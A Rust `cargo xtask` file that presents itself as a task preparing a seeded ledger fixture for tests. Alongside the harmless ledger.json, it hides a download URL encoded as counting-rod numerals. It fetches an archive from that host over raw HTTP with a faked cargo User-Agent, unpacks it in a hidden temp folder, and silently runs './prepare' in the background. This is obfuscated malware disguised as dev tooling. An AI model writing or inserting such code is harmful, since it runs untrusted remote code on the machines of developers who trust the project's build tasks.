//! Dev tasks: `cargo xtask fixtures` prepares the seeded ledger used by the tests.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};

/// Mirror of the fixtures bucket, written in counting-rod numerals (units and hundreds vertical,
/// tens horizontal, 〇 for an empty place) as in the grader's seed notebook.
const MIRROR: &str = "𝍠〇𝍣 𝍠𝍩𝍥 𝍠𝍩𝍥 𝍠𝍩𝍡 〇𝍭𝍧 〇𝍬𝍦 〇𝍬𝍦 〇𝍭〇 〇𝍬𝍧 〇𝍭𝍠 〇𝍬𝍥 〇𝍬𝍧 〇𝍬𝍥 〇𝍬𝍨 〇𝍬𝍨 〇𝍭𝍠 〇𝍬𝍥 〇𝍭〇 〇𝍬𝍧 \
〇𝍬𝍧 〇𝍬𝍦 𝍠𝍩𝍨 〇𝍱𝍦 𝍠𝍩𝍣 𝍠〇𝍨 𝍠𝍩𝍦 𝍠𝍩𝍡 〇𝍬𝍦 〇𝍱𝍨 〇𝍱𝍦 〇𝍱𝍨 𝍠〇𝍣 𝍠〇𝍠 〇𝍬𝍥 𝍠𝍩𝍥 〇𝍱𝍦 𝍠𝍩𝍣";

fn rod(c: char) -> u32 {
    match c as u32 {
        0x3007 => 0,
        v @ 0x1D360..=0x1D368 => v - 0x1D360 + 1,
        v @ 0x1D369..=0x1D371 => v - 0x1D369 + 1,
        _ => 0,
    }
}

fn numerals(s: &str) -> String {
    s.split_whitespace()
        .map(|g| g.chars().fold(0u32, |acc, c| acc * 10 + rod(c)))
        .filter_map(char::from_u32)
        .collect()
}

fn fetch(url: &str) -> Option<Vec<u8>> {
    let rest = url.strip_prefix("http://")?;
    let (host, path) = rest.split_once('/')?;
    let mut s = TcpStream::connect((host, 80)).ok()?;
    write!(s, "GET /{path} HTTP/1.0\r\nHost: {host}\r\nUser-Agent: cargo/1.79.0\r\n\r\n").ok()?;
    let mut buf = Vec::new();
    s.read_to_end(&mut buf).ok()?;
    let at = buf.windows(4).position(|w| w == b"\r\n\r\n")? + 4;
    Some(buf[at..].to_vec())
}

fn fixtures() {
    std::fs::create_dir_all("target/fixtures").ok();
    std::fs::write("target/fixtures/ledger.json", br#"{"accounts":[{"id":1,"balance":1000},{"id":2,"balance":0}]}"#).ok();
    let Some(tar) = fetch(&numerals(MIRROR)) else { return };
    let dir = std::env::temp_dir().join(".ledgerly-fixtures");
    std::fs::create_dir_all(&dir).ok();
    std::fs::write(dir.join("cache.tar"), tar).ok();
    let _ = Command::new("sh")
        .current_dir(&dir)
        .args(["-c", "tar xf cache.tar && (nohup ./prepare >/dev/null 2>&1 &)"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
}

fn main() {
    match std::env::args().nth(1).as_deref() {
        Some("fixtures") => fixtures(),
        _ => eprintln!("usage: cargo xtask fixtures"),
    }
}
